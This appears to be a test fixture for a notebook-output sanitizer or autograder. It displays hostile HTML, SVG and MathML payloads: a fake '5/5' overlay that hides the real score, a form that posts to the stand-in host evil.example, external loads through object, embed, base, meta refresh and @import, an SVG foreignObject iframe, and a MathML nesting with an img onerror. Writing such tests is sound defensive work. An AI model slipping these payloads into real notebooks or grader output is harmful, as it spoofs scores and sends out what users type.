"""X03 SVG, MathML, forms, styles and frames that cover the score box or send what is typed.

hides: <form
hides: <style
hides: <iframe
hides: position:
hides: <foreignObject
hides: evil.example
"""

# %% extra
from IPython.display import HTML, SVG, display

display(
    HTML(
        "<style>.score{display:none} @import url(//evil.example/x.css)</style><div style='position:fixed;top:0;z-index:9'>5/5</div>"
    )
)
display(
    HTML(
        "<form action=//evil.example><input name=score value=5></form><iframe srcdoc='<b>x</b>'></iframe><object data=//evil.example></object><embed src=//evil.example><base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>"
    )
)
display(
    {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='//evil.example'/></foreignObject></svg>"
    },
    raw=True,
)
display(
    {"text/html": "<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>"},
    raw=True,
)
